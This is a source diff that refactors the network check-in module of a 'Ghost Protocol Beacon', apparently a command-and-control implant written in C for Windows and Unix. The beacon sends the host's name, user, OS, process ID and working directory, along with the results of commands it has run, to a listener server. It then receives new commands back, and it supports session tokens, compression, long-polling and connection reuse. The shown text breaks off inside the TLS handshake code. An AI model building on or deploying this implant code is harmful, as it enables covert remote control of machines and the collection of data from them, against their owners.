@@ -4,188 +4,349 @@
  */
 
 #include "communication.h"
+#include "checkin_codec.h"
+#include "compression.h"
+#include "http_parser.h"
+#include "resolver.h"
+#include "telemetry.h"
+#include "tls.h"
 #include <ctype.h>
 
-// JSON parsing helpers (simplified)
-static char* find_json_value(const char* json, const char* key);
-static int parse_commands_json(const char* json, command_t** commands);
+// Ensures room for `needed` bytes plus a terminator. The first allocation is
+// exact (callers pass the announced length); later growth is geometric
+int http_response_reserve(http_response_t* response, size_t needed) {
+    if (response->data && needed + 1 <= response->capacity) {
+        return 0;
+    }
+    
+    size_t capacity = needed + 1;
+    if (response->data) {
+        capacity = response->capacity * 2;
+        while (needed + 1 > capacity) {
+            capacity *= 2;
+        }
+    }
+    
+    char* grown = response->arena
+        ? arena_realloc(response->arena, response->data, response->capacity, capacity)
+        : realloc(response->data, capacity);
+    if (!grown) {
+        return -1;
+    }
+    response->data = grown;
+    response->capacity = capacity;
+    return 0;
+}
+
+int http_response_append(http_response_t* response, const char* data, size_t length) {
+    if (http_response_reserve(response, response->size + length) != 0) {
+        return -1;
+    }
+    memcpy(response->data + response->size, data, length);
+    response->size += length;
+    response->data[response->size] = '\0';
+    return 0;
+}
+
+// Drops the response buffer; arena-backed buffers go away with the arena reset
+void http_response_release(http_response_t* response) {
+    if (!response->arena) {
+        free(response->data);
+    }
+    response->data = NULL;
+    response->size = 0;
+    response->capacity = 0;
+}
 
-int http_checkin(beacon_config_t* config, system_info_t* sysinfo,
-                command_result_t* results, int result_count,
-                command_t** commands, int* command_count) {
+// Request bodies are only deflated once the listener has said it can take them
+static int g_peer_deflate = 0;
+static int g_peer_long_poll = 0;
+static long g_result_ack = RESULT_ACK_NONE;
+
+int http_listener_long_poll(void) {
+    return g_peer_long_poll;
+}
+
+// Acknowledgement carried by the last successful reply; listeners that predate acks
+// send none, and the whole batch then counts as delivered
+long http_result_ack(void) {
+    return g_result_ack;
+}
+
+// Serializes (and, when the listener takes it, deflates) one check-in. Buffers come from
+// the arena, or from the heap when arena is NULL; checkin_request_release frees the latter
+int checkin_encode(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                   const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                   const telemetry_t* telemetry, int peer_deflate, checkin_request_t* request) {
     
-    char headers[1024];
-    char json_data[MAX_BUFFER_SIZE];
-    http_response_t response = {0};
+    json_writer_t writer;
+    tlv_writer_t tlv_writer;
+    int binary = config->binary_protocol;
+    int compress = config->compress && compression_available();
+    char* deflated = NULL;
     
-    // Build headers
-    snprintf(headers, sizeof(headers),
-        "User-Agent: %s\r\n"
-        "Content-Type: application/json\r\n"
-        "X-Beacon-ID: %s\r\n",
-        config->user_agent, config->beacon_id);
-    
-    // Build JSON payload
-    if (sysinfo) {
-        // Initial checkin with system info
-        snprintf(json_data, sizeof(json_data),
-            "{"
-            "\"beacon_id\":\"%s\","
-            "\"timestamp\":\"%s\","
-            "\"system_info\":{"
-                "\"hostname\":\"%s\","
-                "\"username\":\"%s\","
-                "\"os_name\":\"%s\","
-                "\"os_version\":\"%s\","
-                "\"architecture\":\"%s\","
-                "\"pid\":%d,"
-                "\"cwd\":\"%s\""
-            "}"
-            "}",
-            config->beacon_id,
-            "2024-01-01T00:00:00Z", // Placeholder timestamp
-            sysinfo->hostname,
-            sysinfo->username,
-            sysinfo->os_name,
-            sysinfo->os_version,
-            sysinfo->architecture,
-            sysinfo->pid,
-            sysinfo->cwd);
-    } else if (results && result_count > 0) {
-        // Checkin with command results
-        int offset = snprintf(json_data, sizeof(json_data),
-            "{"
-            "\"beacon_id\":\"%s\","
-            "\"timestamp\":\"%s\","
-            "\"command_results\":[",
-            config->beacon_id,
-            "2024-01-01T00:00:00Z");
-        
-        for (int i = 0; i < result_count && offset < sizeof(json_data) - 256; i++) {
-            offset += snprintf(json_data + offset, sizeof(json_data) - offset,
-                "%s{"
-                "\"command_id\":\"%s\","
-                "\"success\":%s,"
-                "\"output\":\"%s\","
-                "\"timestamp\":\"%s\""
-                "}",
-                i > 0 ? "," : "",
-                results[i].command_id,
-                results[i].success ? "true" : "false",
-                results[i].output,
-                results[i].timestamp);
+    memset(request, 0, sizeof(checkin_request_t));
+    
+    // GET for idle polls, POST whenever there is something to report
+    int has_payload = sysinfo || (results && result_count > 0) || backpressure || telemetry;
+    request->method = has_payload ? "POST" : "GET";
+    
+    if (has_payload && binary) {
+        if (tlv_writer_init(&tlv_writer, arena, MAX_BUFFER_SIZE) != 0) {
+            return -1;
         }
-        
-        snprintf(json_data + offset, sizeof(json_data) - offset, "]}");
-    } else {
-        // Regular checkin
-        snprintf(json_data, sizeof(json_data),
-            "{"
-            "\"beacon_id\":\"%s\","
-            "\"timestamp\":\"%s\""
-            "}",
-            config->beacon_id,
-            "2024-01-01T00:00:00Z");
+        checkin_write_tlv(&tlv_writer, config, sysinfo, results, result_count, backpressure, telemetry);
+        if (tlv_writer.error) {
+            tlv_writer_free(&tlv_writer);
+            return -1;
+        }
+        request->body = tlv_writer.data;
+        request->body_len = tlv_writer.length;
+    } else if (has_payload) {
+        int init = arena ? json_writer_init_arena(&writer, arena, MAX_BUFFER_SIZE)
+                         : json_writer_init(&writer, MAX_BUFFER_SIZE);
+        if (init != 0) {
+            return -1;
+        }
+        checkin_write_json(&writer, config, sysinfo, results, result_count, backpressure, telemetry);
+        if (writer.error) {
+            json_writer_free(&writer);
+            return -1;
+        }
+        request->body = writer.data;
+        request->body_len = writer.length;
+    }
+    if (!arena) {
+        request->owned[0] = (char*)request->body;
     }
     
-    // Make HTTP request
-    const char* method = (sysinfo || (results && result_count > 0)) ? "POST" : "GET";
-    const char* data = (sysinfo || (results && result_count > 0)) ? json_data : NULL;
+    if (has_payload) {
+        // Keep the plain body when deflate fails or does not pay for itself
+        size_t deflated_len;
+        if (compress && peer_deflate && request->body_len >= COMPRESS_MIN_SIZE &&
+            compress_deflate(arena, request->body, request->body_len, &deflated, &deflated_len) == 0) {
+            if (deflated_len < request->body_len) {
+                request->body = deflated;
+                request->body_len = deflated_len;
+                if (!arena) {
+                    request->owned[1] = deflated;
+                }
+            } else {
+                if (!arena) {
+                    free(deflated);
+                }
+                deflated = NULL;
+            }
+        }
+    }
     
-    int result = http_request(method, config->server_url, headers, data, &response);
+    // Build headers; the session token, once issued, stands in for the beacon id
+    snprintf(request->headers, sizeof(request->headers),
+        "User-Agent: %s\r\n"
+        "Content-Type: %s\r\n"
+        "%s%s"
+        "%s: %s\r\n",
+        config->user_agent,
+        binary ? TLV_CONTENT_TYPE : "application/json",
+        compress ? "Accept-Encoding: deflate\r\n" : "",
+        deflated ? "Content-Encoding: deflate\r\n" : "",
+        config->session_token[0] ? "X-Session" : "X-Beacon-ID",
+        config->session_token[0] ? config->session_token : config->beacon_id);
     
-    if (result == 0 && response.status_code == 200 && response.data) {
-        // Parse response for commands
-        *command_count = parse_commands_json(response.data, commands);
-        
-        // Free response data
-        free(response.data);
-        return 0;
-    }
+    return 0;
+}
+
+void checkin_request_release(checkin_request_t* request) {
+    free(request->owned[0]);
+    free(request->owned[1]);
+    request->owned[0] = NULL;
+    request->owned[1] = NULL;
+}
+
+// Undoes the Content-Encoding of a 200 reply and parses the commands out of it; ack
+// receives the listener's result acknowledgement or RESULT_ACK_NONE, session as for
+// checkin_parse_reply
+int checkin_decode(const http_response_t* response, arena_t* arena, command_record_t** commands,
+                   int max_commands, int* command_count, long* ack, char* session) {
+    const char* body = response->data;
+    size_t body_len = response->size;
+    char* inflated = NULL;
+    
+    *command_count = 0;
+    *ack = RESULT_ACK_NONE;
     
-    if (response.data) {
-        free(response.data);
+    if (response->encoding == CONTENT_DEFLATE) {
+        if (compress_inflate(arena, response->data, response->size, &inflated, &body_len) != 0) {
+            return -1;
+        }
+        body = inflated;
+    } else if (response->encoding != CONTENT_IDENTITY) {
+        return -1;
     }
     
-    return -1;
+    *command_count = checkin_parse_reply(body, body_len, arena, commands, max_commands, ack, session);
+    
+    if (inflated && !arena) {
+        free(inflated);
+    }
+    return 0;
 }
 
-int https_checkin(beacon_config_t* config, system_info_t* sysinfo,
-                 command_result_t* results, int result_count,
-                 command_t** commands, int* command_count) {
+static int checkin(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                   const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                   command_record_t** commands, int max_commands, int* command_count, int use_ssl) {
     
-    char headers[1024];
-    char json_data[MAX_BUFFER_SIZE];
+    checkin_request_t request;
     http_response_t response = {0};
+    telemetry_t window;
     
-    // Build headers (same as HTTP)
-    snprintf(headers, sizeof(headers),
-        "User-Agent: %s\r\n"
-        "Content-Type: application/json\r\n"
-        "X-Beacon-ID: %s\r\n",
-        config->user_agent, config->beacon_id);
-    
-    // Build JSON payload (same as HTTP)
-    if (sysinfo) {
-        snprintf(json_data, sizeof(json_data),
-            "{"
-            "\"beacon_id\":\"%s\","
-            "\"timestamp\":\"%s\","
-            "\"system_info\":{"
-                "\"hostname\":\"%s\","
-                "\"username\":\"%s\","
-                "\"os_name\":\"%s\","
-                "\"os_version\":\"%s\","
-                "\"architecture\":\"%s\","
-                "\"pid\":%d,"
-                "\"cwd\":\"%s\""
-            "}"
-            "}",
-            config->beacon_id,
-            "2024-01-01T00:00:00Z",
-            sysinfo->hostname,
-            sysinfo->username,
-            sysinfo->os_name,
-            sysinfo->os_version,
-            sysinfo->architecture,
-            sysinfo->pid,
-            sysinfo->cwd);
-    } else {
-        snprintf(json_data, sizeof(json_data),
-            "{"
-            "\"beacon_id\":\"%s\","
-            "\"timestamp\":\"%s\""
-            "}",
-            config->beacon_id,
-            "2024-01-01T00:00:00Z");
-    }
+    response.arena = arena;
     
-    // Make HTTPS request
-    const char* method = sysinfo ? "POST" : "GET";
-    const char* data = sysinfo ? json_data : NULL;
+    // The summary rides on this check-in and goes back into the window if it fails
+    long long started = telemetry_now_us();
+    int has_telemetry = config->telemetry && telemetry_take(&window);
     
-    int result = https_request(method, config->server_url, headers, data, &response, config->verify_ssl);
+    if (checkin_encode(config, arena, sysinfo, results, result_count, backpressure,
+                       has_telemetry ? &window : NULL, g_peer_deflate, &request) != 0) {
+        telemetry_failure(TELEMETRY_ENCODE);
+        if (has_telemetry) {
+            telemetry_restore(&window);
+        }
+        return -1;
+    }
+    telemetry_record(TELEMETRY_ENCODE, started);
+    
+    http_batch_request_t exchange = {
+        request.method, config->server_url, request.headers, request.body, request.body_len,
+        use_ssl, config->verify_ssl, backpressure && backpressure->long_poll > 0, &response, -1
+    };
+    int result = http_request_many(&exchange, 1);
+    checkin_request_release(&request);
     
     if (result == 0 && response.status_code == 200 && response.data) {
-        *command_count = parse_commands_json(response.data, commands);
-        free(response.data);
-        return 0;
+        g_peer_deflate = response.accepts_deflate || response.encoding == CONTENT_DEFLATE;
+        g_peer_long_poll = response.long_poll;
+        
+        long long parse_started = telemetry_now_us();
+        result = checkin_decode(&response, arena, commands, max_commands, command_count, &g_result_ack,
+                                config->session_token);
+        http_response_release(&response);
+        if (result == 0) {
+            telemetry_record(TELEMETRY_PARSE, parse_started);
+            telemetry_record(TELEMETRY_CHECKIN, started);
+        } else {
+            telemetry_failure(TELEMETRY_PARSE);
+        }
+        return result;
     }
     
-    if (response.data) {
-        free(response.data);
+    // The listener no longer knows the token (it restarted, say), so the next check-in
+    // identifies the beacon in full and registers again
+    if (result == 0 && response.status_code == 401 && config->session_token[0]) {
+        printf("[-] Listener dropped the check-in session, registering again\n");
+        config->session_token[0] = '\0';
     }
     
+    // The transport names its own failures; a refused reply only counts against the check-in
+    telemetry_failure(TELEMETRY_CHECKIN);
+    if (has_telemetry) {
+        telemetry_restore(&window);
+    }
+    http_response_release(&response);
     return -1;
 }
 
+int http_checkin(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                command_record_t** commands, int max_commands, int* command_count) {
+    return checkin(config, arena, sysinfo, results, result_count, backpressure, commands, max_commands, command_count, 0);
+}
+
+int https_checkin(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                 const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                 command_record_t** commands, int max_commands, int* command_count) {
+    return checkin(config, arena, sysinfo, results, result_count, backpressure, commands, max_commands, command_count, 1);
+}
+
+// Longest wait for a held long-poll reply; 0 falls back to the I/O timeout
+static int g_response_timeout = 0;
+static int g_io_timeout = HTTP_DEFAULT_IO_TIMEOUT;
+
+void http_set_response_timeout(int seconds) {
+    g_response_timeout = seconds > 0 ? seconds : 0;
+}
+
+void http_set_io_timeout(int seconds) {
+    g_io_timeout = seconds > 0 ? seconds : HTTP_DEFAULT_IO_TIMEOUT;
+}
+
+// Seconds to wait for the first byte of the reply
+static int reply_timeout(const http_batch_request_t* request) {
+    return request->long_poll && g_response_timeout > 0 ? g_response_timeout : g_io_timeout;
+}
+
+// The wait for a reply is filed under hold while the listener may be sitting on it
+static telemetry_phase_t wait_phase(const http_batch_request_t* request) {
+    return request->long_poll ? TELEMETRY_HOLD : TELEMETRY_TTFB;
+}
+
 #ifdef _WIN32
-int http_request(const char* method, const char* url, const char* headers,
-                const char* data, http_response_t* response) {
+// Held for the life of the beacon so WinINet can pool the connection and resume TLS
+static HINTERNET g_session = NULL;
+static HINTERNET g_connect = NULL;
+static char g_connect_host[256];
+static int g_connect_port = 0;
+static int g_keep_alive = 1;
+
+void http_connection_close(void) {
+    if (g_connect) InternetCloseHandle(g_connect);
+    if (g_session) InternetCloseHandle(g_session);
+    g_connect = NULL;
+    g_session = NULL;
+    g_connect_host[0] = '\0';
+    g_connect_port = 0;
+}
+
+void http_set_keep_alive(int enabled) {
+    g_keep_alive = enabled;
+    if (!enabled) {
+        http_connection_close();
+    }
+}
+
+// The connect handle is only a host/port binding; WinINet opens sockets beneath it as needed
+static HINTERNET wininet_connect(const char* hostname, int port) {
+    if (g_connect && g_connect_port == port && strcmp(g_connect_host, hostname) == 0) {
+        return g_connect;
+    }
+    http_connection_close();
+    
+    g_session = InternetOpenA("Ghost Protocol Beacon", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
+    if (!g_session) {
+        return NULL;
+    }
+    
+    // Same deadlines as the socket transport; the receive timeout is set per request
+    DWORD connectTimeout = HTTP_CONNECT_TIMEOUT * 1000;
+    DWORD sendTimeout = (DWORD)g_io_timeout * 1000;
+    InternetSetOptionA(g_session, INTERNET_OPTION_CONNECT_TIMEOUT, &connectTimeout, sizeof(connectTimeout));
+    InternetSetOptionA(g_session, INTERNET_OPTION_SEND_TIMEOUT, &sendTimeout, sizeof(sendTimeout));
+    
+    g_connect = InternetConnectA(g_session, hostname, port, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
+    if (!g_connect) {
+        http_connection_close();
+        return NULL;
+    }
+    snprintf(g_connect_host, sizeof(g_connect_host), "%s", hostname);
+    g_connect_port = port;
+    return g_connect;
+}
+
+static int wininet_request(const http_batch_request_t* request) {
     
-    HINTERNET hInternet = NULL;
     HINTERNET hConnect = NULL;
     HINTERNET hRequest = NULL;
+    http_response_t* response = request->response;
     int result = -1;
     
     // Parse URL
@@ -194,30 +355,40 @@ int http_request(const char* method, const char* url, const char* headers,
     char path[512];
     int use_ssl;
     
-    if (parse_url(url, hostname, &port, path, &use_ssl) != 0) {
+    if (parse_url(request->url, hostname, &port, path, &use_ssl) != 0) {
         return -1;
     }
     
-    // Initialize WinINet
-    hInternet = InternetOpenA("Ghost Protocol Beacon", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
-    if (!hInternet) goto cleanup;
-    
-    // Connect to server
-    hConnect = InternetConnectA(hInternet, hostname, port, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
+    // Reuses the session and connect handles from the last check-in to this listener
+    hConnect = wininet_connect(hostname, port);
     if (!hConnect) goto cleanup;
     
     // Create request
     DWORD flags = INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE;
+    if (g_keep_alive) {
+        flags |= INTERNET_FLAG_KEEP_CONNECTION;
+    }
     if (use_ssl) {
         flags |= INTERNET_FLAG_SECURE;
     }
     
-    hRequest = HttpOpenRequestA(hConnect, method, path, NULL, NULL, NULL, flags, 0);
+    hRequest = HttpOpenRequestA(hConnect, request->method, path, NULL, NULL, NULL, flags, 0);
     if (!hRequest) goto cleanup;
     
-    // Send request
-    BOOL sent = HttpSendRequestA(hRequest, headers, strlen(headers), (LPVOID)data, data ? strlen(data) : 0);
-    if (!sent) goto cleanup;
+    // The default receive timeout would cut a held long-poll reply short
+    DWORD receiveTimeout = (DWORD)reply_timeout(request) * 1000;
+    InternetSetOptionA(hRequest, INTERNET_OPTION_RECEIVE_TIMEOUT, &receiveTimeout, sizeof(receiveTimeout));
+    
+    // WinINet connects inside HttpSendRequest, so everything up to the reply headers
+    // counts as the wait
+    long long started = telemetry_now_us();
+    BOOL sent = HttpSendRequestA(hRequest, request->headers, strlen(request->headers),
+                                 (LPVOID)request->data, (DWORD)request->data_len);
+    if (!sent) {
+        telemetry_failure(wait_phase(request));
+        goto cleanup;
+    }
+    telemetry_record(wait_phase(request), started);
     
     // Get status code
     DWORD statusCode;
@@ -226,134 +397,705 @@ int http_request(const char* method, const char* url, const char* headers,
         response->status_code = statusCode;
     }
     
-    // Read response
-    char buffer[4096];
-    DWORD bytesRead;
-    response->data = malloc(1);
-    response->size = 0;
+    // WinINet leaves the body encoded unless HTTP decoding is switched on
+    char encoding[64];
+    DWORD encodingSize = sizeof(encoding);
+    response->encoding = CONTENT_IDENTITY;
+    if (HttpQueryInfoA(hRequest, HTTP_QUERY_CONTENT_ENCODING, encoding, &encodingSize, NULL)) {
+        response->encoding = _strnicmp(encoding, "deflate", 7) == 0 ? CONTENT_DEFLATE
+                           : _strnicmp(encoding, "identity", 8) == 0 ? CONTENT_IDENTITY : CONTENT_UNKNOWN;
+    }
     
-    while (InternetReadFile(hRequest, buffer, sizeof(buffer), &bytesRead) && bytesRead > 0) {
-        response->data = realloc(response->data, response->size + bytesRead + 1);
-        memcpy(response->data + response->size, buffer, bytesRead);
-        response->size += bytesRead;
+    char accepted[128] = "Accept-Encoding";
+    DWORD acceptedSize = sizeof(accepted);
+    response->accepts_deflate = HttpQueryInfoA(hRequest, HTTP_QUERY_CUSTOM, accepted, &acceptedSize, NULL) &&
+                                strstr(accepted, "deflate") != NULL;
+    
+    char longPoll[32] = "X-Long-Poll";
+    DWORD longPollSize = sizeof(longPoll);
+    response->long_poll = HttpQueryInfoA(hRequest, HTTP_QUERY_CUSTOM, longPoll, &longPollSize, NULL) ? atoi(longPoll) : 0;
+    
+    // Size the body from Content-Length up front, as http_parser does, and read straight into it
+    DWORD contentLength = 0;
+    DWORD contentLengthSize = sizeof(contentLength);
+    if (!HttpQueryInfoA(hRequest, HTTP_QUERY_CONTENT_LENGTH | HTTP_QUERY_FLAG_NUMBER,
+                        &contentLength, &contentLengthSize, NULL)) {
+        contentLength = 0;
     }
     
-    if (response->data) {
-        response->data[response->size] = '\0';
+    response->size = 0;
+    if (http_response_reserve(response, contentLength) != 0) goto cleanup;
+    
+    started = telemetry_now_us();
+    for (;;) {
+        if (contentLength > 0 && response->size >= contentLength) {
+            break;
+        }
+        // Chunked or unannounced bodies grow the buffer geometrically once it fills
+        if (response->size + 1 >= response->capacity &&
+            http_response_reserve(response, response->size + 4096) != 0) {
+            goto cleanup;
+        }
+        
+        DWORD bytesRead = 0;
+        DWORD room = (DWORD)(response->capacity - response->size - 1);
+        if (!InternetReadFile(hRequest, response->data + response->size, room, &bytesRead)) {
+            telemetry_failure(TELEMETRY_RECEIVE);
+            goto cleanup;
+        }
+        if (bytesRead == 0) {
+            break;
+        }
+        response->size += bytesRead;
     }
+    response->data[response->size] = '\0';
+    telemetry_record(TELEMETRY_RECEIVE, started);
     
     result = 0;
-    
+
 cleanup:
     if (hRequest) InternetCloseHandle(hRequest);
-    if (hConnect) InternetCloseHandle(hConnect);
-    if (hInternet) InternetCloseHandle(hInternet);
+    
+    // Handles that failed are rebuilt on the next check-in rather than trusted again
+    if (result != 0 || !g_keep_alive) {
+        http_connection_close();
+    }
     
     return result;
 }
 
-int https_request(const char* method, const char* url, const char* headers,
-                 const char* data, http_response_t* response, int verify_ssl) {
-    // For Windows, HTTPS is handled by the same function with SSL flag
-    return http_request(method, url, headers, data, response);
+// WinINet calls block, so a batch runs one request after another
+int http_request_many(http_batch_request_t* requests, int count) {
+    int status = 0;
+    for (int i = 0; i < count; i++) {
+        requests[i].result = wininet_request(&requests[i]);
+        if (requests[i].result != 0) {
+            status = -1;
+        }
+    }
+    return status;
 }
 
+
 #else
 
-// Unix/Linux implementation using raw sockets
-int http_request(const char* method, const char* url, const char* headers,
-                const char* data, http_response_t* response) {
+// Unix/Linux implementation: non-blocking sockets driven from one event loop
+
+#include "event_loop.h"
+#include <errno.h>
+#include <netinet/tcp.h>
+#include <stddef.h>
+#include <sys/uio.h>
+
+#ifndef MSG_NOSIGNAL
+#define MSG_NOSIGNAL 0
+#endif
+
+// Results of a non-blocking send or read besides a byte count
+#define HTTP_IO_ERROR -1
+#define HTTP_IO_WANT_READ -2
+#define HTTP_IO_WANT_WRITE -3
+
+// Where one request stands; every state waits on its socket without holding up the others
+typedef enum {
+    EXCHANGE_CONNECTING,
+    EXCHANGE_HANDSHAKE,
+    EXCHANGE_SENDING,
+    EXCHANGE_RECEIVING,
+    EXCHANGE_DONE,
+    EXCHANGE_FAILED
+} exchange_state_t;
+
+// One request in flight on a claimed connection
+typedef struct {
+    http_batch_request_t* request;
+    http_connection_t* conn;
+    exchange_state_t state;
+    resolver_race_t race;
+    http_parser_t parser;
+    size_t head_len;
+    const char* body;             // the caller's buffer, unless small enough to ride in head
+    size_t body_len;
+    size_t sent;                  // bytes of head and body written
+    size_t received;
+    int reused;                   // started on a pooled connection, so a stale one is retried once
+    int reusable;
+    long deadline_ms;             // connect and handshake, then idle send and read deadlines
+    long long phase_started_us;
+    char head[MAX_BUFFER_SIZE];   // request line and headers
+} http_exchange_t;
+
+static http_connection_t g_connections[HTTP_MAX_CONNECTIONS];
+static http_exchange_t g_exchanges[HTTP_MAX_CONNECTIONS];
+static event_loop_t g_loop;
+static int g_transport_ready = 0;
+static int g_keep_alive = 1;
+
+static int transport_init(void) {
+    if (g_transport_ready) {
+        return 0;
+    }
+    if (event_loop_init(&g_loop) != 0) {
+        return -1;
+    }
+    for (int i = 0; i < HTTP_MAX_CONNECTIONS; i++) {
+        memset(&g_connections[i], 0, sizeof(http_connection_t));
+        g_connections[i].sockfd = -1;
+    }
+    g_transport_ready = 1;
+    return 0;
+}
+
+void http_set_keep_alive(int enabled) {
+    g_keep_alive = enabled;
+    if (!enabled) {
+        http_connection_close();
+    }
+}
+
+static void close_socket(http_connection_t* conn) {
+#ifndef BEACON_NO_TLS
+    if (conn->tls) {
+        tls_close(conn->tls);
+        conn->tls = NULL;
+    }
+#endif
+    if (conn->sockfd >= 0) {
+        event_loop_set(&g_loop, conn->sockfd, 0, NULL);
+        close(conn->sockfd);
+        conn->sockfd = -1;
+    }
+}
+
+static void forget_connection(http_connection_t* conn) {
+    close_socket(conn);
+    conn->hostname[0] = '\0';
+    conn->port = 0;
+    conn->secure = 0;
+    conn->busy = 0;
+}
+
+void http_connection_close(void) {
+    if (!g_transport_ready) {
+        return;
+    }
+    for (int i = 0; i < HTTP_MAX_CONNECTIONS; i++) {
+        forget_connection(&g_connections[i]);
+    }
+    event_loop_destroy(&g_loop);
+    g_transport_ready = 0;
+}
+
+// The pooled connection to the same listener over the same transport, or a free slot
+static http_connection_t* claim_connection(const char* hostname, int port, int secure, int verify_ssl, int* reused) {
+    http_connection_t* spare = NULL;
     
+    for (int i = 0; i < HTTP_MAX_CONNECTIONS; i++) {
+        http_connection_t* conn = &g_connections[i];
+        if (conn->busy) {
+            continue;
+        }
+        if (conn->sockfd >= 0 && conn->port == port && conn->secure == secure &&
+            conn->verify_ssl == verify_ssl && strcmp(conn->hostname, hostname) == 0) {
+            conn->busy = 1;
+            *reused = 1;
+            return conn;
+        }
+        if (!spare || (spare->sockfd >= 0 && conn->sockfd < 0)) {
+            spare = conn;
+        }
+    }
+    
+    if (!spare) {
+        return NULL;
+    }
+    
+    // With the pool full this evicts an idle connection to some other listener
+    forget_connection(spare);
+    snprintf(spare->hostname, sizeof(spare->hostname), "%s", hostname);
+    spare->port = port;
+    spare->secure = secure;
+    spare->verify_ssl = verify_ssl;
+    spare->busy = 1;
+    *reused = 0;
+    return spare;
+}
+
+#ifndef BEACON_NO_TLS
+static long from_tls(long result) {
+    return result == TLS_WANT_READ ? HTTP_IO_WANT_READ : result == TLS_WANT_WRITE ? HTTP_IO_WANT_WRITE : result;
+}
+#endif
+
+// Writes what is left of head and body, picking up offset bytes in. Bytes written,
+// HTTP_IO_WANT_* when the socket is full, or HTTP_IO_ERROR
+static long conn_send(http_connection_t* conn, const char* head, size_t head_len,
+                      const char* body, size_t body_len, size_t offset) {
+    struct iovec parts[2];
+    int count = 0;
+    
+    if (offset < head_len) {
+        parts[count].iov_base = (void*)(head + offset);
+        parts[count].iov_len = head_len - offset;
+        count++;
+        offset = 0;
+    } else {
+        offset -= head_len;
+    }
+    if (offset < body_len) {
+        parts[count].iov_base = (void*)(body + offset);
+        parts[count].iov_len = body_len - offset;
+        count++;
+    }
+    
+#ifndef BEACON_NO_TLS
+    if (conn->tls) {
+        // One TLS record at a time; small bodies were already folded into the head
+        return from_tls(tls_send(conn->tls, parts[0].iov_base, parts[0].iov_len));
+    }
+#endif
+    // Both parts in one syscall, so the body goes out without being copied behind the headers
+    struct msghdr message;
+    memset(&message, 0, sizeof(message));
+    message.msg_iov = parts;
+    message.msg_iovlen = count;
+    ssize_t sent = sendmsg(conn->sockfd, &message, MSG_NOSIGNAL);
+    if (sent < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) {
+        return HTTP_IO_WANT_WRITE;
+    }
+    return sent > 0 ? sent : HTTP_IO_ERROR;
+}
+
+// Bytes read, 0 once the peer has closed, HTTP_IO_WANT_* when nothing is buffered, or HTTP_IO_ERROR
+static long conn_recv(http_connection_t* conn, char* buffer, size_t length) {
+#ifndef BEACON_NO_TLS
+    if (conn->tls) {
+        return from_tls(tls_recv(conn->tls, buffer, length));
+    }
+#endif
+    ssize_t received = recv(conn->sockfd, buffer, length, 0);
+    if (received < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) {
+        return HTTP_IO_WANT_READ;
+    }
+    return received >= 0 ? received : HTTP_IO_ERROR;
+}
+
+static long deadline_after(int seconds) {
+    return event_loop_now_ms() + seconds * 1000L;
+}
+
+static void exchange_watch(http_exchange_t* ex, long io) {
+    event_loop_set(&g_loop, ex->conn->sockfd, io == HTTP_IO_WANT_READ ? EVENT_READ : EVENT_WRITE, ex);
+}
+
+static int exchange_fail(http_exchange_t* ex, telemetry_phase_t phase) {
+    telemetry_failure(phase);
+    ex->state = EXCHANGE_FAILED;
+    return 0;
+}
+
+// The connect deadline also covers the TLS handshake that follows
+static int exchange_connect(http_exchange_t* ex) {
+    // Resolving first times the lookup on its own; after the first check-in it is a cache hit
+    long long started = telemetry_now_us();
+    resolver_entry_t* entry = resolver_lookup(ex->conn->hostname, ex->conn->port);
+    if (!entry) {
+        return exchange_fail(ex, TELEMETRY_DNS);
+    }
+    telemetry_record(TELEMETRY_DNS, started);
+    
+    // The connect races every A/AAAA record
+    resolver_race_start(&ex->race, &g_loop, entry, ex);
+    ex->state = EXCHANGE_CONNECTING;
+    ex->phase_started_us = telemetry_now_us();
+    ex->deadline_ms = deadline_after(HTTP_CONNECT_TIMEOUT);
+    return 1;
+}
+
+// The server dropped the pooled connection while it sat idle; reconnect once and resend
+static int exchange_retry_stale(http_exchange_t* ex) {
+    if (!ex->reused || ex->received > 0) {
+        return 0;
+    }
+    close_socket(ex->conn);
+    ex->reused = 0;
+    ex->sent = 0;
+    exchange_connect(ex);
+    return 1;
+}
+
+static int exchange_connected(http_exchange_t* ex) {
+    http_connection_t* conn = ex->conn;
+    int sockfd = resolver_race_step(&ex->race);
+    if (sockfd == RESOLVER_RACE_PENDING) {
+        return 0;
+    }
+    if (sockfd < 0) {
+        return exchange_fail(ex, TELEMETRY_CONNECT);
+    }
+    telemetry_record(TELEMETRY_CONNECT, ex->phase_started_us);
+    
+    int on = 1;
+    // A request that needs several writes must not have its tail held back by Nagle
+    setsockopt(sockfd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
+#ifdef SO_NOSIGPIPE
+    setsockopt(sockfd, SOL_SOCKET, SO_NOSIGPIPE, &on, sizeof(on));
+#endif
+    conn->sockfd = sockfd;
+    ex->phase_started_us = telemetry_now_us();
+
+#ifndef BEACON_NO_TLS
+    if (conn->secure) {
+        // Resumes the cached session for this listener when one is held
+        conn->tls = tls_start(sockfd, conn->hostname, conn->port, conn->verify_ssl);
+        if (!conn->tls) {
+            return exchange_fail(ex, TELEMETRY_TLS);
+        }
+        ex->state = EXCHANGE_HANDSHAKE;
+        return 1;
+    }
+#endif
+
+    ex->state = EXCHANGE_SENDING;
+    ex->deadline_ms = deadline_after(g_io_timeout);
+    return 1;
+}
+
+static int exchange_handshake(http_exchange_t* ex) {
+#ifndef BEACON_NO_TLS
+    http_connection_t* conn = ex->conn;
+    long status = from_tls(tls_handshake(conn->tls));
+    if (status == HTTP_IO_WANT_READ || status == HTTP_IO_WANT_WRITE) {
+        exchange_watch(ex, status);
+        return 0;
+    }
+    if (status != 0) {
+        return exchange_fail(ex, TELEMETRY_TLS);
+    }
+    telemetry_record(TELEMETRY_TLS, ex->phase_started_us);
+#ifdef DEBUG
